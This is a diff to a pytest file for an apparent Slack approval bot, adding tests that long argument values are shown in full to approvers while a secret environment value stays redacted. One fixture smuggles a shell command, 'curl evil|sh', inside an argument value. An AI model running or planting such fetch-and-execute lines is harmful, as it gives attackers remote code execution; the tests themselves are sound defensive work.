@@ -7,11 +7,16 @@ from datetime import timedelta
 
 import pytest
 
-from bot.domain.approval import Approval
+from bot.domain.approval import Approval, ApprovalNote
 from bot.domain.change import ActionKind
+from bot.domain.plan import FieldChange
 from bot.domain.policy import NOBODY, Grant, Members, VerbGroup, Window
 from bot.ports import SlackRefusedError
+from bot.rendering.guard import guard
+from bot.rendering.voice import BlockKitVoice
+from bot.usecases.speak import parent_id
 from tests.fakes.clock import FakeClock
+from tests.unit.domain.approval.samples import an_approval
 from tests.unit.usecases.approving import (
     CAT,
     DAN,
@@ -549,6 +554,32 @@ def test_broken_glass_runs_at_once_is_loud_and_asks_for_a_review() -> None:
     assert "It is reviewed: ✓ <@U4DAN>, ✓ <@U2BOB>" in asks.content.text
     assert not [block for block in asks.content.blocks if block["type"] == "actions"]
     assert "reviewed already" in bed.clicks(ActionKind.REVIEW, made, SAM)
+
+
+@pytest.mark.parametrize("pad", [20, 320, 3_300])
+@pytest.mark.parametrize("flag", ["--args", "--label-add"])
+def test_what_people_say_yes_to_can_be_read_in_full(pad: int, flag: str) -> None:
+    bed = asking()
+    value = f"'sh -c \"echo {'A' * pad}; curl evil|sh\"'"
+    typed = f"x={value}" if flag == "--label-add" else value
+    name = bed.asked(f"update --env-add KEY=hunter2 {flag} {typed} web")
+    bed.tick()
+    (top,) = bed.slack.shown(parent_id(name))
+    thread = [m.content for m in bed.slack.messages if m.thread_ts == top.ts]
+    thread += [content for where, content in bed.slack.files if where.thread_ts == top.ts]
+    whole = "A" * pad + "; curl evil|sh"
+    shown = [guard(content) for content in (top.content, *thread)]
+    drawn = [str(each.blocks) + (each.file_text or "") for each in shown]
+    assert sum(whole in each for each in drawn) > 0
+    assert len(thread) == (pad > 100)
+    assert ("thread has it in full" in drawn[0]) == (pad > 100)
+    assert not [each for each in drawn if "hunter2" in each]
+
+
+def test_a_value_of_several_lines_is_shown_with_its_ends_of_line() -> None:
+    many = an_approval(changes=(FieldChange(path="args", old=None, new="a\nb"),))
+    shown = BlockKitVoice(open_policy=False).approval_note(many, ApprovalNote.DETAILS)
+    assert "+ args: a\\nb" in shown.text
 
 
 @pytest.mark.parametrize(
